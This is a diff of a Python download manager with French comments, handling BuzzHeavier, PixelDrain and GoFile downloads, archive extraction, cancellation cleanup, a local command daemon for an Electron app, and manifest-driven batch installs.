+                            DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                        else:
+                            DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                    else:
+                        DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                except Exception as e:
+                    logging.error(f"❌ Erreur suppression BuzzHeavier: {e}")
+                    DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "error": True}, phase="cancelled")
+                return False
+            
+            DownloadStatus.emit("✅ Terminé", 100, phase="completed")
+            
+            # Extraction automatique si archive
+            if filename.lower().endswith(('.zip', '.rar')):
+                return extract_archive(full_path, destination, controller, extracted=extracted)
+            
+            # Téléchargement réussi, sortir de la boucle de retry
+            return True
+            
+        except Exception as e:
+            # Erreur pendant la tentative
+            logging.warning(f"BuzzHeavier exception (tentative {attempt}/{max_retries}): {e}")
+            if attempt < max_retries:
+                continue  # Réessayer
+            else:
+                # Dernière tentative échouée
+                DownloadStatus.emit("❌ Erreur: téléchargement échoué", 0, {"error": True})
+                logging.exception("Erreur BuzzHeavier après toutes les tentatives")
+                return False
+    
+    # Si on arrive ici, toutes les tentatives ont échoué
+    return False
+
+# ==================== PIXELDRAIN ====================
+
+def download_pixeldrain(url: str, destination: str, mirrors: Optional[list] = None) -> bool:
+    """Télécharge depuis PixelDrain (`mirrors` : autres liens du catalogue)"""
+    controller, bandwidth = current_controller(), current_bandwidth()
+    try:
+        DownloadStatus.emit("🔍 Préparation...", phase="preparing")
+        
+        converted_url = convert_pixeldrain_url(url)
+        session = http_pool.get_session(http_pool.pool_size(1, transfer.MAX_CONNECTIONS))
+        
+        headers = {
+            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/132.0.0.0",
+            "Accept": "*/*"
+        }
+        
+        DownloadStatus.emit("⬇️ Téléchargement...", phase="downloading")
+        
+        remote, response = transfer.probe(session, converted_url, headers)
+        if not remote.ok:
+            DownloadStatus.emit(f"❌ Erreur: code {remote.status_code}", 0, {"error": True})
+            return False
+        
+        filename = extract_filename(remote.content_disposition)
+        full_path = os.path.join(destination, filename)
+        tmp_file = f"{full_path}.part"
+        
+        engine = aio_transfer.create_downloader(
+            session, converted_url, tmp_file, headers,
+            controller=controller,
+            reporter=ProgressReporter(destination),
+            source=url,
+            bandwidth=bandwidth,
+            mirrors=prepare_mirrors(session, remote, converted_url, headers, url, mirrors)
+        )
+        extractor = stream_zip(engine, filename, destination, controller)
+        try:
+            completed, extracted = run_streamed(engine, remote, response, extractor)
+        except transfer.DownloadAborted:
+            remove_partial_file(tmp_file)
+            return False
+        
+        # Renommer .part -> fichier final (seulement si pas stopped)
+        if completed:
+            os.rename(tmp_file, full_path)
+        else:
+            remove_partial_file(tmp_file)
+        
+        # Vérification finale si arrêté
+        if controller and controller.is_stopped():
+            try:
+                if os.path.exists(destination):
+                    DownloadStatus.emit("🗑️ Annulation...", 0, {"cancelled": True}, phase="cancelled")
+                    logging.info(f"🗑️ Suppression PixelDrain: {destination}")
+                    import stat
+                    def force_remove_readonly(func, path, exc_info):
+                        try:
+                            os.chmod(path, stat.S_IWRITE)
+                            func(path)
+                        except:
+                            pass
+                    shutil.rmtree(destination, onerror=force_remove_readonly)
+                    if not os.path.exists(destination):
+                        DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                    else:
+                        DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                else:
+                    DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+            except Exception as e:
+                logging.error(f"❌ Erreur suppression PixelDrain: {e}")
+                DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "error": True}, phase="cancelled")
+            return False
+        
+        DownloadStatus.emit("✅ Terminé", 100, phase="completed")
+        
+        # Extraction automatique si archive
+        if filename.lower().endswith(('.zip', '.rar')):
+            return extract_archive(full_path, destination, controller, extracted=extracted)
+        
+        return True
+        
+    except Exception as e:
+        DownloadStatus.emit("❌ Erreur: téléchargement échoué", 0, {"error": True})
+        logging.exception("Erreur PixelDrain")
+        return False
+
+# ==================== GOFILE ====================
+
+class GoFileDownloader:
+    """Téléchargeur pour GoFile.io"""
+    
+    def __init__(self, url: str, destination: str, max_workers: int = 5):
+        self.url = url
+        self.destination = destination
+        self.max_workers = max_workers
+        # Pool partagé : les fichiers en parallèle se partagent les créneaux de l'hôte (host_limits)
+        self.session = http_pool.get_session(http_pool.pool_size(max_workers, transfer.MAX_CONNECTIONS))
+        self.token = self._get_token()
+        self.files_info = []
+        self.volume_sets = {}  # Chemin d'un volume -> volume_sets.VolumeSet
+        self.set_threads = []
+        self.controller = current_controller()
+        self.bandwidth = current_bandwidth()  # Seau à jetons partagé par tous les fichiers
+    
+    @staticmethod
+    def _get_token() -> str:
+        """Obtient un token GoFile"""
+        user_agent = os.getenv("GF_USERAGENT", "Mozilla/5.0")
+        headers = {
+            "User-Agent": user_agent,
+            "Accept-Encoding": "gzip, deflate, br",
+            "Accept": "*/*",
+            "Connection": "keep-alive",
+        }
+        logging.info("Création d'un compte GoFile temporaire...")
+        resp = http_pool.get_session().post("https://api.gofile.io/accounts", headers=headers).json()
+        if resp["status"] != "ok":
+            raise Exception(f"Échec création compte GoFile: {resp}")
+        logging.info("Token GoFile obtenu avec succès")
+        return resp["data"]["token"]
+    
+    def download(self) -> bool:
+        """Lance le téléchargement"""
+        try:
+            DownloadStatus.emit("🔍 Préparation...", phase="preparing")
+            
+            # Extrait le content ID de différents formats d'URL
+            try:
+                # Format: https://gofile.io/d/XXXXXX
+                if "/d/" in self.url:
+                    content_id = self.url.split("/d/")[-1].split("?")[0]
+                else:
+                    # Dernier segment de l'URL
+                    content_id = self.url.split("/")[-1].split("?")[0]
+                
+                logging.info(f"Content ID GoFile: {content_id}")
+            except Exception as e:
+                DownloadStatus.emit(f"❌ Erreur: URL invalide", 0, {"error": True})
+                return False
+            
+            # Parse récursivement
+            self._parse_folder(content_id, self.destination)
+            
+            if not self.files_info:
+                DownloadStatus.emit("❌ Erreur: aucun fichier trouvé", 0, {"error": True})
+                return False
+            
+            DownloadStatus.emit(f"📦 {len(self.files_info)} fichier(s) trouvé(s)")
+            
+            # Archives en plusieurs volumes : une seule extraction par jeu, volumes téléchargés dans l'ordre
+            import volume_sets
+            self.volume_sets = volume_sets.find_sets(self.files_info)
+            
+            # Télécharge tous les fichiers
+            from concurrent.futures import ThreadPoolExecutor
+            
+            with ThreadPoolExecutor(max_workers=self.max_workers) as executor:
+                futures = []
+                for file_info in self.files_info:
+                    # Vérifier stop AVANT de lancer chaque téléchargement
+                    if self.controller and self.controller.is_stopped():
+                        logging.info("⏹️ Stop détecté avant lancement du téléchargement")
+                        break
+                    # Chaque fichier garde le téléchargement courant (statuts du mode serve)
+                    future = executor.submit(contextvars.copy_context().run, self._download_file, file_info)
+                    futures.append(future)
+                
+                # Attendre que tous les téléchargements soient terminés
+                for future in futures:
+                    try:
+                        future.result(timeout=1.0)  # Timeout pour vérifier stop régulièrement
+                    except:
+                        pass
+                    # Vérifier si arrêté entre chaque fichier
+                    if self.controller and self.controller.is_stopped():
+                        logging.info("⏹️ Stop détecté entre les fichiers")
+                        # Annuler les futures restantes
+                        for f in futures:
+                            f.cancel()
+                        break
+            
+            # Extractions des archives en volumes (elles s'arrêtent d'elles-mêmes sur stop)
+            for thread in self.set_threads:
+                thread.join()
+            
+            # Vérifier si on a été arrêté
+            if self.controller and self.controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulation...", 0, {"cancelled": True}, phase="cancelled")
+                
+                # Fermer tous les fichiers ouverts et forcer le cleanup
+                try:
+                    # Attendre un peu pour que les threads se terminent
+                    time.sleep(0.5)
+                    
+                    # Suppression forcée du dossier
+                    if os.path.exists(self.destination):
+                        logging.info(f"🗑️ Début suppression forcée: {self.destination}")
+                        
+                        # Lister ce qui existe avant suppression
+                        try:
+                            file_count = sum([len(files) for _, _, files in os.walk(self.destination)])
+                            logging.info(f"📁 {file_count} fichier(s) à supprimer")
+                        except:
+                            pass
+                        
+                        # Force la suppression avec permissions
+                        import stat
+                        def force_remove_readonly(func, path, exc_info):
+                            try:
+                                os.chmod(path, stat.S_IWRITE)
+                                func(path)
+                                logging.debug(f"✓ Supprimé: {path}")
+                            except Exception as e:
+                                logging.error(f"✗ Échec suppression {path}: {e}")
+                        
+                        shutil.rmtree(self.destination, onerror=force_remove_readonly)
+                        
+                        # Vérifier que c'est bien supprimé
+                        if not os.path.exists(self.destination):
+                            DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                            logging.info("✅ Suppression confirmée - Dossier n'existe plus")
+                        else:
+                            DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                            logging.warning(f"⚠️ Dossier encore présent: {self.destination}")
+                    else:
+                        DownloadStatus.emit("✅ Annulé", 0, {"cancelled": True, "success": False}, phase="cancelled")
+                        logging.info("ℹ️ Aucun fichier à supprimer")
+                        
+                except Exception as e:
+                    logging.error(f"❌ Erreur suppression: {e}")
+                    import traceback
+                    traceback.print_exc()
+                    DownloadStatus.emit("⚠️ Annulé", 0, {"cancelled": True, "error": True}, phase="cancelled")
+                
+                return False
+            
+            DownloadStatus.emit("✅ Terminé", 100, phase="completed")
+            return True
+            
+        except Exception as e:
+            DownloadStatus.emit("❌ Erreur: téléchargement échoué", 0, {"error": True})
+            logging.exception("Erreur GoFile")
+            return False
+    
+    def _parse_folder(self, content_id: str, parent_dir: str):
+        """Parse récursivement un dossier GoFile"""
+        url = f"https://api.gofile.io/contents/{content_id}?wt=4fd6sg89d7s6&cache=true&sortField=createTime&sortDirection=1"
+        headers = {
+            "User-Agent": os.getenv("GF_USERAGENT", "Mozilla/5.0"),
+            "Accept-Encoding": "gzip, deflate, br",
+            "Accept": "*/*",
+            "Connection": "keep-alive",
+            "Authorization": f"Bearer {self.token}",
+        }
+        
+        logging.debug(f"API appel: {url}")
+        resp = self.session.get(url, headers=headers, timeout=transfer.REQUEST_TIMEOUT).json()
+        
+        if resp["status"] != "ok":
+            logging.error(f"Erreur API GoFile pour {content_id}: {resp}")
+            DownloadStatus.emit(f"⚠️ Erreur API pour {content_id}")
+            return
+        
+        data = resp["data"]
+        
+        if data["type"] == "file":
+            self.files_info.append({
+                "path": parent_dir,
+                "filename": sanitize_filename(data["name"]),
+                "link": data["link"]
+            })
+            DownloadStatus.emit(f"📄 Fichier trouvé: {data['name']}")
+            return
+        
+        # C'est un dossier
+        folder_name = sanitize_filename(data["name"])
+        folder_path = os.path.join(parent_dir, folder_name)
+        os.makedirs(folder_path, exist_ok=True)
+        DownloadStatus.emit(f"📁 Dossier trouvé: {folder_name}")
+        
+        # Parcourir les enfants
+        for child_id in data.get("children", {}):
+            child = data["children"][child_id]
+            if child["type"] == "folder":
+                self._parse_folder(child["id"], folder_path)
+            else:
+                self.files_info.append({
+                    "path": folder_path,
+                    "filename": sanitize_filename(child["name"]),
+                    "link": child["link"]
+                })
+                DownloadStatus.emit(f"📄 Fichier trouvé: {child['name']}")
+    
+    def _download_file(self, file_info: Dict):
+        """Télécharge un fichier individuel"""
+        filepath = os.path.join(file_info["path"], file_info["filename"])
+        volume_set = self.volume_sets.get(filepath)
+        landed = False
+        try:
+            tmp_file = f"{filepath}.part"
+            
+            headers = {
+                "Cookie": f"accountToken={self.token}",
+                "Accept-Encoding": "gzip, deflate, br",
+                "User-Agent": os.getenv("GF_USERAGENT", "Mozilla/5.0"),
+                "Accept": "*/*",
+            }
+            
+            DownloadStatus.emit(f"⬇️ Téléchargement...", phase="downloading")
+            
+            remote, response = transfer.probe(self.session, file_info["link"], headers)
+            if not remote.ok:
+                raise requests.HTTPError(f"code {remote.status_code}")
+            
+            engine = aio_transfer.create_downloader(
+                self.session, file_info["link"], tmp_file, headers,
+                controller=self.controller,
+                reporter=ProgressReporter(self.destination, {"filename": file_info['filename']}),
+                source=file_info["link"],
+                bandwidth=self.bandwidth
+            )
+            extractor = None
+            if volume_set is None:
+                extractor = stream_zip(engine, file_info["filename"], file_info["path"], self.controller)
+            try:
+                completed, extracted = run_streamed(engine, remote, response, extractor)
+            except transfer.DownloadAborted:
+                remove_partial_file(tmp_file)
+                return False
+            
+            if not completed:
+                # Arrêt demandé : supprimer immédiatement le fichier partiel
+                remove_partial_file(tmp_file)
+                return
+            
+            # Renommer le fichier temporaire
+            os.rename(tmp_file, filepath)
+            DownloadStatus.emit(f"✅ Téléchargé: {file_info['filename']}", 100)
+            
+            if volume_set is not None:
+                landed = True
+                self._volume_landed(volume_set, filepath)
+            # Extraction si archive
+            elif filepath.lower().endswith(('.zip', '.rar')):
+                extract_archive(filepath, file_info["path"], self.controller, extracted=extracted)
+                
+        except Exception as e:
+            logging.error(f"Erreur téléchargement {file_info['filename']}: {e}")
+            DownloadStatus.emit(f"❌ Erreur: {file_info['filename']}: {e}", 0, {"error": True})
+            remove_partial_file(tmp_file)
+        finally:
+            # Volume manquant : l'extraction qui l'attend abandonne
+            if volume_set is not None and not landed:
+                volume_set.fail()
+    
+    def _volume_landed(self, volume_set, filepath: str):
+        """Volume téléchargé : lance l'extraction du jeu au dernier volume (au premier avec EARLY_EXTRACT)"""
+        import volume_sets
+        from archive_process import is_sevenzip
+        volume_set.land(filepath)
+        tool = rar_tool()
+        # Extraction anticipée : volumes réunis au fil de l'eau, ou UnRAR qui attend le suivant
+        early = volume_sets.EARLY_EXTRACT and (volume_set.split or bool(tool and not is_sevenzip(tool)))
+        if volume_set.should_start(early):
+            thread = threading.Thread(
+                target=contextvars.copy_context().run, args=(self._extract_set, volume_set),
+                name=f"extract-{volume_set.base}", daemon=True
+            )
+            self.set_threads.append(thread)
+            thread.start()
+    
+    def _extract_set(self, volume_set):
+        """Extraction unique d'une archive en volumes"""
+        try:
+            if volume_set.split:
+                target = volume_set.join(self.controller.is_stopped if self.controller else (lambda: False))
+                if target and target.lower().endswith(('.zip', '.rar')):
+                    extract_archive(target, volume_set.folder, self.controller)
+            else:
+                extract_archive(volume_set.first, volume_set.folder, self.controller, volume_set)
+        except Exception as e:
+            logging.exception(f"Erreur extraction {volume_set.base}")
+            DownloadStatus.emit(f"❌ Erreur: {volume_set.base}: {e}", 0, {"error": True})
+
+# ==================== COMMANDES ====================
+
+CONTROL_FLAGS = {"pause": "paused", "stop": "stopped"}
+
+def set_control_flag(download_id: str, control_base_dir: Optional[str], flag: str, enabled: bool = True):
+    """Crée (ou supprime) le fichier de contrôle `<id>.pause` / `<id>.stop` lu par DownloadController"""
+    # Utiliser le même système que DownloadController
+    flag_file = os.path.join(get_control_dir(control_base_dir), f"{download_id}.{flag}")
+    if enabled:
+        with open(flag_file, 'w') as f:
+            f.write(CONTROL_FLAGS[flag])
+    elif os.path.exists(flag_file):
+        os.remove(flag_file)
+
+_disk_inventory = None
+
+def disk_inventory(control_dir: Optional[str] = None):
+    """Inventaire des volumes du processus (profils de débit dans le dossier de contrôle)"""
+    global _disk_inventory
+    if _disk_inventory is None:
+        from disks import DiskInventory
+        _disk_inventory = DiskInventory(control_dir)
+    return _disk_inventory
+
+def list_disks(control_dir: Optional[str] = None) -> list:
+    """Liste les disques disponibles : espace libre et profil de débit s'il a été mesuré"""
+    return disk_inventory(control_dir).volumes()
+
+def suggest_disk(required_bytes: int, control_dir: Optional[str] = None) -> Dict[str, Any]:
+    """Disque conseillé pour installer un jeu de `required_bytes` octets décompressés"""
+    inventory = disk_inventory(control_dir)
+    return {"suggested": inventory.suggest(required_bytes), "drives": inventory.volumes()}
+
+def run_download(job_controller: DownloadController, url: str, destination: str, mirror_links=()) -> Dict[str, Any]:
+    """
+    Télécharge `url` dans `destination` (détection du type de lien).
+    Retourne le résultat final : {"success": True, ...}, {"cancelled": True, ...} ou {"error": ...}
+    """
+    job_controller.save_destination(destination)
+    
+    # Crée le dossier de destination
+    os.makedirs(destination, exist_ok=True)
+    
+    # Détecte le type et télécharge
+    link_type = detect_link_type(url)
+    
+    success = False
+    error_message = None
+    
+    try:
+        if link_type == "buzzheavier":
+            success = download_buzzheavier(url, destination, mirrors=mirror_links)
+            if not success:
+                error_message = "Échec du téléchargement BuzzHeavier (serveur inaccessible ou fichier introuvable)"
+        elif link_type == "pixeldrain":
+            success = download_pixeldrain(url, destination, mirrors=mirror_links)
+            if not success:
+                error_message = "Échec du téléchargement PixelDrain (serveur inaccessible ou fichier introuvable)"
+        elif link_type == "gofile":
+            downloader = GoFileDownloader(url, destination)
+            success = downloader.download()
+            if not success:
+                error_message = "Échec du téléchargement GoFile (serveur inaccessible, fichier introuvable ou lien expiré)"
+        else:
+            return {"error": f"Type de lien non supporté: {link_type}", "success": False}
+    except Exception as e:
+        error_message = f"Erreur durant le téléchargement: {str(e)}"
+        logging.exception("Erreur durant le téléchargement")
+        success = False
+    
+    # Si arrêté, c'est déjà géré dans download(), on sort proprement
+    if job_controller.is_stopped():
+        # Cleanup final par sécurité
+        try:
+            job_controller.cleanup_on_stop()
+        except:
+            pass
+        return {"success": False, "cancelled": True}
+    
+    if success:
+        # Nettoyer le dossier de contrôle après succès
+        try:
+            job_controller.cleanup_control_files()
+        except:
+            pass
+        return {"success": True, "destination": destination, "http": http_pool.report()}
+    
+    # Envoyer un message d'erreur détaillé
+    if not error_message:
+        error_message = "Téléchargement échoué pour une raison inconnue"
+    return {"error": error_message, "success": False}
+
+def serve(control_base_dir: Optional[str] = None):
+    """
+    Démon de la session Electron : un seul processus possède tous les
+    téléchargements et répond aux commandes JSON reçues sur 127.0.0.1
+    (voir daemon.py). S'arrête sur la commande `shutdown` ou quand
+    Electron ferme l'entrée standard.
+    """
+    from daemon import CommandServer
+    from job_queue import JobQueue, parse_size, QUEUED, PREEMPTED, WAITING_EXTRACTION
+    from job_store import JobStore
+    
+    control_dir = get_control_dir(control_base_dir)
+    scheduler = BandwidthScheduler(control_dir)
+    host_limits.load(control_dir)
+    jobs: Dict[str, DownloadJob] = {}
+    server = CommandServer()
+    
+    # Travaux laissés en cours par un démon précédent (crash, fermeture brutale)
+    store = JobStore(os.path.join(control_dir, "jobs.db"))
+    interrupted = store.recover()
+    if interrupted:
+        logging.info(f"{len(interrupted)} téléchargement(s) interrompu(s) à reprendre")
+    
+    def queue_changed(entry):
+        """Statut des travaux qui attendent (position dans la file, préemption, extraction)"""
+        if entry.state != QUEUED:
+            store.set_state(entry.download_id, entry.state)
+        job = jobs.get(entry.download_id)
+        if job is None:
+            return
+        data = {"queue": {"state": entry.state, "priority": entry.priority}}
+        if entry.state == QUEUED:
+            position = queue.position(entry.download_id)
+            data["queue"]["position"] = position
+            DownloadStatus.emit(f"⏳ En file d'attente (position {position})", 0, data, job, phase="queued")
+        elif entry.state == PREEMPTED:
+            DownloadStatus.emit("⏸️ En pause (téléchargement prioritaire en cours)", None, data, job, phase="paused")
+        elif entry.state == WAITING_EXTRACTION:
+            DownloadStatus.emit("⏳ Extraction en attente", None, data, job, phase="queued")
+    
+    queue = JobQueue(on_change=queue_changed)
+    
+    def deliver(event: Dict[str, Any]):
+        """Thread d'écriture des événements : progression agrégée du travail, puis abonné"""
+        if event.get("type") == "progress":
+            download_id = event["download_id"]
+            queue.update(download_id, event.get("downloaded", 0), event["total"], event["speed"] * 1024 * 1024)
+            store.progress(download_id, event.get("downloaded", 0), event["total"])
+        server.publish(event)
+    
+    events = EventEmitter(deliver)
+    
+    def publish_status(download_id: str, status: Dict[str, Any], stream: str = ""):
+        events.post({"event": "status", "download_id": download_id, **status}, download_id, stream)
+    
+    def run_job(job: DownloadJob, params: Dict[str, Any]):
+        current_job.set(job)
+        job.bandwidth = scheduler.register(job.download_id, float(params.get("weight", 1.0)), int(params.get("priority", 0)))
+        result = {"error": "Téléchargement interrompu", "success": False}
+        try:
+            result = run_download(job.controller, params["url"], params["destination"], params.get("mirrors") or [])
+        except Exception as e:
+            logging.exception("Erreur critique")
+            result = {"error": str(e), "success": False}
+        finally:
+            job.controller.close()
+            scheduler.unregister(job.download_id)
+            store.finish(job.download_id, result)
+            queue.finished(job.download_id)
+            host_limits.save()
+        events.post({"type": "done", "event": "done", "download_id": job.download_id, **result}, job.download_id)
+    
+    def start_download(params: Dict[str, Any]) -> Dict[str, Any]:
+        download_id = params["download_id"]
+        if download_id in jobs and jobs[download_id].is_active():
+            raise ValueError(f"Téléchargement déjà en cours: {download_id}")
+        job = DownloadJob(
+            download_id,
+            DownloadController(download_id, control_base_dir),
+            publish=lambda status, stream="": publish_status(download_id, status, stream)
+        )
+        job.queue = queue
+        job.store = store
+        priority = int(params.get("priority", 0))
+        store.add_job(
+            download_id, params["url"], params["destination"],
+            {k: v for k, v in params.items() if k not in ("token", "id", "cmd")}, priority
+        )
+        job.thread = threading.Thread(target=run_job, args=(job, params), name=f"job-{download_id}", daemon=True)
+        jobs[download_id] = job
+        # Lancé par la file quand une place se libère
+        queue.submit(download_id, job.controller, job.thread.start, priority, parse_size(params.get("size")))
+        return {"queue": {"state": queue.state(download_id), "position": queue.position(download_id)}}
+    
+    def set_priority(params: Dict[str, Any]):
+        """Poids/priorité de bande passante ; la priorité réordonne aussi la file (préemption possible)"""
+        weight = float(params["weight"]) if "weight" in params else None
+        BandwidthScheduler.update_limits(
+            control_dir, download_id=params["download_id"], weight=weight, priority=int(params["priority"])
+        )
+        queue.set_priority(params["download_id"], int(params["priority"]))
+        store.set_priority(params["download_id"], int(params["priority"]))
+    
+    def control(action: str):
+        """pause / resume / stop : événement du contrôleur, fichier de contrôle si le téléchargement n'est pas ici"""
+        def handler(params: Dict[str, Any]):
+            download_id = params["download_id"]
+            job = jobs.get(download_id)
+            if job and action == "stop" and queue.cancel(download_id):
+                # Pas encore lancé : rien à nettoyer
+                job.controller.close()
+                events.post({"type": "done", "event": "done", "download_id": download_id, "success": False, "cancelled": True}, download_id)
+            elif job and action == "resume" and queue.state(download_id) == PREEMPTED:
+                # Reprendra quand la file lui rendra une place
+                pass
+            elif job and (job.is_active() or queue.state(download_id)):
+                getattr(job.controller, action)()
+                if action != "stop":
+                    store.set_state(download_id, "paused" if action == "pause" else queue.state(download_id))
+            elif action == "resume":
+                set_control_flag(params["download_id"], control_base_dir, "pause", False)
+            else:
+                set_control_flag(params["download_id"], control_base_dir, action)
+        return handler
+    
+    def resume_interrupted(params: Dict[str, Any]) -> Dict[str, Any]:
+        """Relance un travail interrompu avec ses paramètres d'origine (octets repris via le journal du .part)"""
+        stored = store.job(params["download_id"])
+        if stored is None:
+            raise ValueError(f"Téléchargement inconnu: {params['download_id']}")
+        return start_download({**stored["params"], "download_id": stored["id"]})
+    
+    server.handlers.update({
+        "download": start_download,
+        "resume_interrupted": resume_interrupted,
+        "interrupted": lambda p: {"jobs": store.interrupted()},
+        "history": lambda p: {"jobs": store.history(int(p.get("limit", 100)), int(p.get("offset", 0)))},
+        "job": lambda p: {"job": store.job(p["download_id"])},
+        "forget": lambda p: store.forget(p["download_id"]),
+        "pause": control("pause"),
+        "resume": control("resume"),
+        "stop": control("stop"),
+        "set_bandwidth": lambda p: BandwidthScheduler.update_limits(control_dir, cap=float(p["limit_mb"]) * 1024 * 1024),
+        "set_priority": set_priority,
+        "queue": lambda p: queue.snapshot(),
+        "set_queue_limits": lambda p: queue.set_limits(
+            int(p["max_downloads"]) if "max_downloads" in p else None,
+            int(p["max_extractions"]) if "max_extractions" in p else None
+        ),
+        "detect_type": lambda p: {"type": detect_link_type(p["url"]), "url": p["url"]},
+        "get_disks": lambda p: {"drives": list_disks(control_dir)},
+        "suggest_disk": lambda p: suggest_disk(parse_size(p.get("size")), control_dir),
+        "list": lambda p: {"downloads": [i for i, job in jobs.items() if job.is_active() or queue.state(i)]},
+    })
+    
+    # Electron mort : l'entrée standard se ferme
+    def watch_stdin():
+        sys.stdin.read()
+        server.close()
+    
+    threading.Thread(target=watch_stdin, name="stdin", daemon=True).start()
+    print(json.dumps({"serve": {"port": server.port, "token": server.token, "pid": os.getpid()}}), flush=True)
+    try:
+        server.serve_forever()
+    finally:
+        # Les transferts encore actifs reprendront depuis leur journal
+        events.close()
+        scheduler.close()
+        host_limits.save()
+        store.close()
+
+def read_manifest(text: str) -> list:
+    """
+    Manifeste d'installation : tableau JSON, objet {"jobs": [...]} ou NDJSON
+    (un objet par ligne). Chaque entrée : {title, url, destination} et
+    optionnellement mirrors, priority, size, id.
+    """
+    text = text.strip()
+    try:
+        data = json.loads(text) if text else []
+    except json.JSONDecodeError:
+        data = [json.loads(line) for line in text.splitlines() if line.strip()]
+    if isinstance(data, dict):
+        data = data.get("jobs", [data])
+    for index, entry in enumerate(data):
+        missing = [key for key in ("url", "destination") if not entry.get(key)]
+        if missing:
+            raise ValueError(f"Manifeste: entrée {index + 1} incomplète ({', '.join(missing)})")
+    return data
+
+# Attente maximale de la mise en pause des travaux après Ctrl+C / SIGTERM
+INTERRUPT_TIMEOUT = 10.0
+
+def suspend_jobs(jobs: list, timeout: float = INTERRUPT_TIMEOUT):
+    """Attend que chaque travail (déjà mis en pause) soit suspendu, au plus `timeout` s en tout"""
+    deadline = perf_counter() + timeout
+    for job in jobs:
+        if not job.controller.wait_suspended(max(0.0, deadline - perf_counter())):
+            logging.warning(f"{job.download_id}: pas encore suspendu, interrompu en cours de transfert")
+
+def batch(manifest: list, control_base_dir: Optional[str] = None, max_downloads: Optional[int] = None) -> Dict[str, Any]:
+    """
+    Installe toutes les entrées du manifeste dans ce processus : pools HTTP,
+    planificateur de bande passante et file d'attente partagés (au plus
+    `max_downloads` téléchargements à la fois). Les statuts de chaque travail
+    sortent en NDJSON sur stdout ({"event": "status", "download_id", "title", ...},
+    schéma de events.py), puis un rapport final ({"event": "summary", ...}) :
+    octets, durée et débit par travail.
+    """
+    from job_queue import JobQueue, parse_size, MAX_DOWNLOADS
+
+    control_dir = get_control_dir(control_base_dir)
+    scheduler = BandwidthScheduler(control_dir)
+    host_limits.load(control_dir)
+    queue = JobQueue(max_downloads or MAX_DOWNLOADS)
+    jobs: Dict[str, DownloadJob] = {}
+    reports: Dict[str, Dict[str, Any]] = {}
+
+    def output(event: Dict[str, Any]):
+        """Thread d'écriture des événements : progression agrégée du travail, puis stdout"""
+        if event.get("type") == "progress":
+            report = reports[event["download_id"]]
+            report["bytes"] = event.get("downloaded", 0)
+            report["total"] = event["total"]
+            queue.update(event["download_id"], report["bytes"], event["total"], event.get("speed", 0) * 1024 * 1024)
+        print(json.dumps(event), flush=True)
+
+    events = EventEmitter(output)
+
+    def publish_status(download_id: str, status: Dict[str, Any], stream: str = ""):
+        events.post({"event": "status", "download_id": download_id, "title": reports[download_id]["title"], **status}, download_id, stream)
+
+    def run_job(job: DownloadJob, entry: Dict[str, Any]):
+        current_job.set(job)
+        report = reports[job.download_id]
+        job.bandwidth = scheduler.register(job.download_id, float(entry.get("weight", 1.0)), int(entry.get("priority", 0)))
+        started = perf_counter()
+        result = {"error": "Téléchargement interrompu", "success": False}
+        try:
+            result = run_download(job.controller, entry["url"], entry["destination"], entry.get("mirrors") or [])
+        except Exception as e:
+            logging.exception("Erreur critique")
+            result = {"error": str(e), "success": False}
+        finally:
+            report["seconds"] = perf_counter() - started
+            job.controller.close()
+            scheduler.unregister(job.download_id)
+            queue.finished(job.download_id)
+            host_limits.save()
+        report["outcome"] = "success" if result.get("success") else "cancelled" if result.get("cancelled") else "error"
+        if result.get("error"):
+            report["error"] = result["error"]
+        events.post({"type": "done", "event": "done", "download_id": job.download_id, "title": report["title"], **result}, job.download_id)
+
+    for index, entry in enumerate(manifest):
+        download_id = str(entry.get("id") or f"batch-{index + 1}")
+        if download_id in jobs:
+            raise ValueError(f"Manifeste: identifiant en double: {download_id}")
+        job = DownloadJob(
+            download_id,
+            DownloadController(download_id, control_base_dir),
+            publish=lambda status, stream="", download_id=download_id: publish_status(download_id, status, stream)
+        )
+        job.queue = queue
+        job.thread = threading.Thread(target=run_job, args=(job, entry), name=f"job-{download_id}", daemon=True)
+        jobs[download_id] = job
+        reports[download_id] = {
+            "download_id": download_id,
+            "title": entry.get("title") or entry["url"],
+            "outcome": None,
+            "bytes": 0,
+            "total": 0,
+            "seconds": 0.0,
+        }
+
+    # Ctrl+C / SIGTERM : les travaux en cours sont mis en pause, pas arrêtés (un arrêt
+    # supprime le .part, son journal et la destination) ; ils reprennent au prochain lancement
+    interrupted = threading.Event()
+
+    def interrupt_all(signum, frame):
+        logging.info(f"⚠️ Signal {signum} reçu - interruption du lot")
+        interrupted.set()
+        for job in jobs.values():
+            if not queue.cancel(job.download_id):
+                job.controller.pause()
+
+    signal.signal(signal.SIGINT, interrupt_all)
+    signal.signal(signal.SIGTERM, interrupt_all)
+
+    start = perf_counter()
+    try:
+        for (download_id, job), entry in zip(jobs.items(), manifest):
+            queue.submit(download_id, job.controller, job.thread.start, int(entry.get("priority", 0)), parse_size(entry.get("size")))
+        # Les travaux retirés de la file avant leur lancement n'ont pas de thread démarré
+        while any(job.is_active() or queue.state(i) for i, job in jobs.items()):
+            if interrupted.is_set():
+                suspend_jobs([job for job in jobs.values() if job.is_active()])
+                break
+            time.sleep(0.2)
+    finally:
+        scheduler.close()
+        host_limits.save()
+    elapsed = perf_counter() - start
+    events.flush()
+
+    for report in reports.values():
+        report["outcome"] = report["outcome"] or ("interrupted" if interrupted.is_set() else "cancelled")
+        if report["outcome"] == "success" and report["total"]:
+            # Le dernier statut de progression peut précéder la fin du transfert
+            report["bytes"] = report["total"]
+        report["mb_per_s"] = round(report["bytes"] / report["seconds"] / (1024 * 1024), 2) if report["seconds"] else 0.0
+        report["seconds"] = round(report["seconds"], 1)
